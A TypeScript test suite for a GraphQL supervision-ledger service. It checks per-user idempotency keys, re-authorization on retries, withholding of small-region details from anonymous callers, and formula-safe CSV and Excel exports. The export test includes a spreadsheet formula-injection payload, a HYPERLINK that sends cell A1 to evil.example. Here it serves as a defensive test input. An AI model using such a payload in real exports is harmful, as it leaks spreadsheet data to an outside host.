// Long on purpose: a specification, one case per rule of issue #11 items 10, 11 and 13.
// Issue #11, items 10, 11 and 13 on both backends: idempotency keys belong to the user who sent
// them and to one request (and are authorized again before a stored answer is given), the ledger
// summary tells no single problem's details to an anonymous caller, and exports carry no formulas.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { MIGRATIONS_DIR } from '@rrm/db';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestDatabase, type TestDatabase, testBackends } from './support/databases.ts';
import { databaseFingerprint, SUPERVISION_PARTS } from './support/fingerprint.ts';
import { errorCode, graphqlClient, loginAs, startTestServer, type TestServer } from './support/http.ts';

const REPORT =
  'mutation($input: ReportProblemInput!) { reportProblem(input: $input) { id countyCode description } }';
const RECORD = 'mutation($input: RecordInspectionInput!) { recordInspection(input: $input) { id } }';
const SUMMARY =
  'query($r: String) { supervisionSummary(regionCode: $r) { total { total } byCategory { key total } byDepartment { key total } detailsWithheld } }';
const PASSWORD = 'idempotency-test-password';

interface Summary {
  supervisionSummary: {
    total: { total: number };
    byCategory: { key: string; total: number }[];
    byDepartment: { key: string; total: number }[];
    detailsWithheld: boolean;
  };
}

for (const backend of testBackends()) {
  describe.skipIf(backend.skip)(
    `idempotency keys, ledger summary and exports on ${backend.name}${backend.skip ? ` (skipped: ${backend.skip})` : ''}`,
    () => {
      let database: TestDatabase;
      let server: TestServer;
      const tokens: Record<string, string> = {};
      let scopes: Record<string, string>;
      /** A county inside `supervisor`'s scope and outside `supervisor2`'s, and one inside `supervisor2`'s. */
      let target: { countyCode: string; listingId: number };
      let otherCounty: string;
      /** Counties without problems, handed out one per test that needs a small ledger. */
      let emptyCounties: string[];

      const { gql, ok } = graphqlClient(() => server);
      const codeOf = errorCode;
      const problemInput = (overrides: Record<string, unknown> = {}) => ({
        input: {
          countyCode: target.countyCode,
          category: 'DRINKING_WATER',
          department: '水利局',
          description: '饮水工程未通水',
          foundOn: '2026-10-01',
          deadline: '2026-12-31',
          ...overrides,
        },
      });
      /** Everything a keyed write could touch: equal fingerprints = nothing written. */
      const fingerprint = () => databaseFingerprint(database, SUPERVISION_PARTS);
      const login = async (username: string) =>
        (
          await ok<{ login: { token: string } }>(
            'mutation($u: String!, $p: String!) { login(username: $u, password: $p) { token } }',
            { u: username, p: PASSWORD },
          )
        ).login.token;
      const createSupervisor = async (username: string, regionScope: string) => {
        const created = await ok<{ createUser: { id: number } }>(
          'mutation($u: String!, $s: String!, $p: String!) { createUser(username: $u, displayName: $u, role: SUPERVISOR, regionScope: $s, password: $p) { id } }',
          { u: username, s: regionScope, p: PASSWORD },
          tokens.admin,
        );
        tokens[username] = await login(username);
        return created.createUser.id;
      };

      beforeAll(async () => {
        database = await openTestDatabase(backend.name);
        server = await startTestServer(database);
        for (const username of ['supervisor', 'supervisor2', 'admin', 'analyst'])
          tokens[username] = await loginAs(server, username);
        const users = await database.rows<{ username: string; scope: string }>(
          sql`SELECT username, region_scope AS scope FROM users WHERE region_scope IS NOT NULL`,
        );
        scopes = Object.fromEntries(users.map((u) => [u.username, u.scope]));
        const [listing] = await database.rows<{ id: number; county: string }>(sql`
          SELECT id, county_code AS county FROM supervision_listings
          WHERE county_code LIKE ${`${scopes.supervisor}%`} AND county_code NOT LIKE ${`${scopes.supervisor2}%`}
            AND status <> 'closed' ORDER BY id LIMIT 1`);
        target = { countyCode: listing!.county, listingId: listing!.id };
        const [other] = await database.rows<{ code: string }>(
          sql`SELECT code FROM regions WHERE level = 'county' AND code LIKE ${`${scopes.supervisor2}%`} ORDER BY code LIMIT 1`,
        );
        otherCounty = other!.code;
        emptyCounties = (
          await database.rows<{ code: string }>(sql`
            SELECT r.code FROM regions r WHERE r.level = 'county'
              AND NOT EXISTS (SELECT 1 FROM supervision_problems p WHERE p.county_code = r.code)
            ORDER BY r.code LIMIT 5`)
        ).map((r) => r.code);
        expect(emptyCounties.length).toBe(5);
        await createSupervisor('idem.twin', scopes.supervisor!);
      }, 120_000);
      afterAll(async () => {
        await server?.close();
        await database?.dispose();
      });

      it("lets another user's key neither answer nor block: each user writes their own record", async () => {
        const key = `shared-${backend.name}`;
        const first = await ok<{ reportProblem: { id: number; description: string } }>(
          REPORT,
          problemInput({ idempotencyKey: key, description: 'A 的问题' }),
          tokens.supervisor,
        );
        // Another supervisor of the same region, with the same key: a write of their own.
        const twin = await ok<{ reportProblem: { id: number; description: string } }>(
          REPORT,
          problemInput({ idempotencyKey: key, description: 'B 的问题' }),
          tokens['idem.twin'],
        );
        expect(twin.reportProblem.id).not.toBe(first.reportProblem.id);
        expect(twin.reportProblem.description).toBe('B 的问题');
        // A supervisor of another region sending the first user's exact request: refused on scope,
        // never answered with the first user's record.
        const before = await fingerprint();
        const outside = await gql(
          REPORT,
          problemInput({ idempotencyKey: key, description: 'A 的问题' }),
          tokens.supervisor2,
        );
        expect(codeOf(outside)).toBe('FORBIDDEN');
        expect(outside.data?.reportProblem ?? null).toBeNull();
        expect(JSON.stringify(outside)).not.toContain(String(first.reportProblem.id));
        expect(await fingerprint()).toEqual(before);
        // …and in their own region, the key is simply theirs.
        const own = await ok<{ reportProblem: { id: number; countyCode: string } }>(
          REPORT,
          problemInput({ idempotencyKey: key, countyCode: otherCounty }),
          tokens.supervisor2,
        );
        expect(own.reportProblem.countyCode).toBe(otherCounty);
        const keys = await database.rows<{ username: string; resultId: number }>(sql`
          SELECT u.username, k.result_id AS "resultId" FROM idempotency_keys k JOIN users u ON u.id = k.user_id
          WHERE k.key = ${key} ORDER BY u.username`);
        expect(keys).toEqual([
          { username: 'idem.twin', resultId: Number(twin.reportProblem.id) },
          { username: 'supervisor', resultId: Number(first.reportProblem.id) },
          { username: 'supervisor2', resultId: Number(own.reportProblem.id) },
        ]);
      });

      it('answers a retry (same user, key and request) with the first record, writing nothing', async () => {
        const input = problemInput({ idempotencyKey: `retry-${backend.name}` });
        const first = await ok<{ reportProblem: { id: number } }>(REPORT, input, tokens.supervisor);
        const before = await fingerprint();
        // An explicit null for an absent optional field is the same request; so is untrimmed text.
        const again = await ok<{ reportProblem: { id: number } }>(
          REPORT,
          { input: { ...input.input, villageCode: null, description: ` ${input.input.description} ` } },
          tokens.supervisor,
        );
        expect(again.reportProblem.id).toBe(first.reportProblem.id);
        expect(await fingerprint()).toEqual(before);
      });

      it('refuses the same key with another request (IDEMPOTENCY_KEY_REUSED) and writes nothing', async () => {
        const key = `reused-${backend.name}`;
        await ok(REPORT, problemInput({ idempotencyKey: key }), tokens.supervisor);
        const before = await fingerprint();
        const changed = await gql(
          REPORT,
          problemInput({ idempotencyKey: key, description: '另一个问题' }),
          tokens.supervisor,
        );
        expect(changed.errors?.[0]?.extensions).toMatchObject({
          code: 'IDEMPOTENCY_KEY_REUSED',
          argument: 'input.idempotencyKey',
        });
        // The same key for another operation is another request too.
        const inspection = await gql(
          RECORD,
          {
            input: {
              listingId: target.listingId,
              kind: 'SPOT_CHECK',
              inspectedOn: '2026-11-01',
              inspectors: '张三',
              householdsChecked: 10,
              villagesChecked: 1,
              findings: '无',
              idempotencyKey: key,
            },
          },
          tokens.supervisor,
        );
        expect(codeOf(inspection)).toBe('IDEMPOTENCY_KEY_REUSED');
        expect(await fingerprint()).toEqual(before);
      });

      it('authorizes again before answering from a key: a writer moved out of the region is refused', async () => {
        const userId = await createSupervisor('idem.moved', scopes.supervisor!);
        const input = problemInput({ idempotencyKey: `moved-${backend.name}` });
        const first = await ok<{ reportProblem: { id: number } }>(REPORT, input, tokens['idem.moved']);
        await ok(
          'mutation($id: Int!, $s: String!) { updateUser(id: $id, regionScope: $s) { id } }',
          { id: userId, s: scopes.supervisor2 },
          tokens.admin,
        );
        tokens['idem.moved'] = await login('idem.moved');
        const before = await fingerprint();
        const retry = await gql(REPORT, input, tokens['idem.moved']);
        expect(codeOf(retry)).toBe('FORBIDDEN');
        expect(JSON.stringify(retry)).not.toContain(`"id":${first.reportProblem.id}`);
        expect(await fingerprint()).toEqual(before);
      });

      it('stores one record for concurrent writes with one key, and answers each with it', async () => {
        const input = problemInput({ idempotencyKey: `concurrent-${backend.name}`, description: '并发写入' });
        const answers = await Promise.all(
          Array.from({ length: 6 }, () =>
            gql<{ reportProblem: { id: number } }>(REPORT, input, tokens.supervisor),
          ),
        );
        for (const a of answers) expect(a.errors, JSON.stringify(a.errors)).toBeUndefined();
        const ids = new Set(answers.map((a) => a.data!.reportProblem.id));
        expect(ids.size).toBe(1);
        const [stored] = await database.rows<{ n: number }>(
          sql`SELECT count(*)::int AS n FROM supervision_problems WHERE description = '并发写入'`,
        );
        expect(stored!.n).toBe(1);
        // The same for an inspection with its problems.
        const inspection = {
          input: {
            listingId: target.listingId,
            kind: 'REVIEW',
            inspectedOn: '2026-11-02',
            inspectors: '李四',
            householdsChecked: 20,
            villagesChecked: 2,
            findings: '并发检查',
            problems: [
              {
                category: 'INCOME',
                department: '人社局',
                description: '并发检查发现',
                deadline: '2026-12-31',
              },
            ],
            idempotencyKey: `concurrent-inspection-${backend.name}`,
          },
        };
        const recorded = await Promise.all(
          Array.from({ length: 4 }, () =>
            gql<{ recordInspection: { id: number } }>(RECORD, inspection, tokens.supervisor),
          ),
        );
        for (const a of recorded) expect(a.errors, JSON.stringify(a.errors)).toBeUndefined();
        expect(new Set(recorded.map((a) => a.data!.recordInspection.id)).size).toBe(1);
        const [counts] = await database.rows<{ inspections: number; problems: number }>(sql`SELECT
          (SELECT count(*)::int FROM supervision_inspections WHERE findings = '并发检查') AS inspections,
          (SELECT count(*)::int FROM supervision_problems WHERE description = '并发检查发现') AS problems`);
        expect(counts).toEqual({ inspections: 1, problems: 1 });
      });

      it('refuses an anonymous ledger summary below the county', async () => {
        const [village] = await database.rows<{ code: string }>(
          sql`SELECT village_code AS code FROM supervision_problems WHERE village_code IS NOT NULL ORDER BY id LIMIT 1`,
        );
        for (const code of [village!.code, village!.code.slice(0, 9)]) {
          const anonymous = await gql(SUMMARY, { r: code });
          expect(codeOf(anonymous)).toBe('UNAUTHENTICATED');
          expect(anonymous.errors![0]!.message).toContain('below the county');
          expect(anonymous.data?.supervisionSummary ?? null).toBeNull();
          const loggedIn = await ok<Summary>(SUMMARY, { r: code }, tokens.analyst);
          expect(loggedIn.supervisionSummary.total.total).toBeGreaterThan(0);
          expect(loggedIn.supervisionSummary.detailsWithheld).toBe(false);
        }
      });

      it('withholds categories and departments from anonymous callers for a region with fewer than 5 problems', async () => {
        const county = emptyCounties[0]!;
        for (const [category, department] of [
          ['HOUSING_SAFETY', '住建局'],
          ['BASIC_MEDICAL', '卫健局'],
        ])
          await ok(
            REPORT,
            problemInput({ countyCode: county, category, department, description: '小账本' }),
            tokens.admin,
          );
        const anonymous = (await ok<Summary>(SUMMARY, { r: county })).supervisionSummary;
        expect(anonymous).toEqual({
          total: { total: 2 },
          byCategory: [],
          byDepartment: [],
          detailsWithheld: true,
        });
        const loggedIn = (await ok<Summary>(SUMMARY, { r: county }, tokens.analyst)).supervisionSummary;
        expect(loggedIn.detailsWithheld).toBe(false);
        expect(loggedIn.byCategory.map((c) => c.key).sort()).toEqual(['basic_medical', 'housing_safety']);
        expect(loggedIn.byDepartment.map((c) => c.key).sort()).toEqual(['住建局', '卫健局'].sort());
        // From 5 problems up the details are public again.
        for (let i = 0; i < 3; i++)
          await ok(REPORT, problemInput({ countyCode: county, description: `小账本 ${i}` }), tokens.admin);
        const five = (await ok<Summary>(SUMMARY, { r: county })).supervisionSummary;
        expect(five.detailsWithheld).toBe(false);
        expect(five.byCategory.reduce((n, c) => n + c.total, 0)).toBe(5);
      });

      it("leaves a small county's problems out of its prefecture's anonymous details (no subtracting neighbours)", async () => {
        const county = emptyCounties[2]!;
        for (let i = 0; i < 2; i++)
          await ok(
            REPORT,
            problemInput({ countyCode: county, department: '差分审计局', description: `差分 ${i}` }),
            tokens.admin,
          );
        const prefecture = county.slice(0, 4);
        const anonymous = (await ok<Summary>(SUMMARY, { r: prefecture })).supervisionSummary;
        expect(anonymous.byDepartment.map((d) => d.key)).not.toContain('差分审计局');
        const loggedIn = (await ok<Summary>(SUMMARY, { r: prefecture }, tokens.analyst)).supervisionSummary;
        expect(loggedIn.byDepartment.find((d) => d.key === '差分审计局')?.total).toBe(2);
        expect(anonymous.total.total).toBe(loggedIn.total.total);
        // Logged in, the details add up to the total.
        expect(loggedIn.byCategory.reduce((n, c) => n + c.total, 0)).toBe(loggedIn.total.total);
      });

      it('exports a formula-like description as text, in CSV and in Excel', async () => {
        const county = emptyCounties[1]!;
        const description = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
        await ok(
          REPORT,
          problemInput({ countyCode: county, description, department: '@SUM(1+1)' }),
          tokens.admin,
        );
        const filter = encodeURIComponent(JSON.stringify({ regionCode: county }));
        const headers = { authorization: `Bearer ${tokens.analyst}` };
        const csv = await fetch(`${server.url}/export/problems.csv?filter=${filter}`, { headers });
        expect(csv.status).toBe(200);
        const text = (await csv.text()).replace(/^\uFEFF/, '');
        const rows = parse(text, { columns: true }) as Record<string, string>[];
        expect(rows.length).toBe(1);
        expect(rows[0]!['问题描述']).toBe(`'${description}`);
        expect(rows[0]!['责任单位']).toBe("'@SUM(1+1)");
        for (const cell of Object.values(rows[0]!)) expect(cell).not.toMatch(/^[=+@\t\r]/);

        const xlsx = await fetch(`${server.url}/export/problems.xlsx?filter=${filter}`, { headers });
        expect(xlsx.status).toBe(200);
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
        const sheet = workbook.worksheets[0]!;
        const column = (sheet.getRow(1).values as unknown[]).indexOf('问题描述');
        const cell = sheet.getRow(2).getCell(column);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe(description);
        expect(cell.formula).toBeUndefined();
      });

      // Last: it rebuilds the key table from the old columns.
      it('migration 0004 moves existing keys to the users who wrote them, and drops the rest', async () => {
        const mine = async (description: string) =>
          Number(
            (
              await ok<{ reportProblem: { id: string } }>(
                REPORT,
                problemInput({ description }),
                tokens.supervisor,
              )
            ).reportProblem.id,
          );
        const kept = await mine('迁移前的问题');
        const orphan = await mine('迁移前的孤儿问题');
        const inspection = Number(
          (
            await ok<{ recordInspection: { id: string } }>(
              RECORD,
              {
                input: {
                  listingId: target.listingId,
                  kind: 'REVIEW',
                  inspectedOn: '2026-11-03',
                  inspectors: '王五',
                  householdsChecked: 5,
                  villagesChecked: 1,
                  findings: '迁移前的检查',
                },
              },
              tokens.supervisor,
            )
          ).recordInspection.id,
        );
        // Back to the shape before 0004 (as 0002 left it), with keys in the old columns.
        await database.rows(sql`DROP TABLE idempotency_keys`);
        await database.rows(sql`ALTER TABLE supervision_inspections ADD COLUMN idempotency_key text`);
        await database.rows(sql`ALTER TABLE supervision_problems ADD COLUMN idempotency_key text`);
        await database.rows(
          sql`ALTER TABLE supervision_inspections ADD CONSTRAINT "supervision_inspections_idempotencyKey_unique" UNIQUE (idempotency_key)`,
        );
        await database.rows(
          sql`ALTER TABLE supervision_problems ADD CONSTRAINT "supervision_problems_idempotencyKey_unique" UNIQUE (idempotency_key)`,
        );
        await database.rows(
          sql`UPDATE supervision_problems SET idempotency_key = 'legacy-problem' WHERE id = ${kept}`,
        );
        await database.rows(
          sql`UPDATE supervision_problems SET idempotency_key = 'legacy-orphan' WHERE id = ${orphan}`,
        );
        await database.rows(
          sql`UPDATE supervision_problem_history SET changed_by = 'someone-gone' WHERE problem_id = ${orphan}`,
        );
        await database.rows(
          sql`UPDATE supervision_inspections SET idempotency_key = 'legacy-inspection' WHERE id = ${inspection}`,
        );
        const migration = readFileSync(join(MIGRATIONS_DIR, '0004_idempotency_keys.sql'), 'utf8');
        for (const statement of migration.split('--> statement-breakpoint'))
          if (statement.trim()) await database.rows(sql.raw(statement));

        const keys = await database.rows(sql`
          SELECT u.username, k.key, k.operation, k.request_hash AS "requestHash", k.result_id AS "resultId"
          FROM idempotency_keys k JOIN users u ON u.id = k.user_id ORDER BY k.key`);
        expect(keys).toEqual([
          {
            username: 'supervisor',
            key: 'legacy-inspection',
            operation: 'recordInspection',
            requestHash: null,
            resultId: inspection,
          },
          {
            username: 'supervisor',
            key: 'legacy-problem',
            operation: 'reportProblem',
            requestHash: null,
            resultId: kept,
          },
        ]);
        const [columns] = await database.rows<{ n: number }>(sql`
          SELECT count(*)::int AS n FROM information_schema.columns
          WHERE table_name IN ('supervision_problems', 'supervision_inspections') AND column_name = 'idempotency_key'`);
        expect(columns!.n).toBe(0);
        // A key moved over answers its user's retry as before (no hash was kept), and no one else's.
        const retry = await ok<{ reportProblem: { id: string } }>(
          REPORT,
          problemInput({ idempotencyKey: 'legacy-problem', description: '迁移前的问题' }),
          tokens.supervisor,
        );
        expect(Number(retry.reportProblem.id)).toBe(kept);
        const twin = await ok<{ reportProblem: { id: string } }>(
          REPORT,
          problemInput({ idempotencyKey: 'legacy-problem', description: '迁移前的问题' }),
          tokens['idem.twin'],
        );
        expect(Number(twin.reportProblem.id)).not.toBe(kept);
      });
    },
  );
}
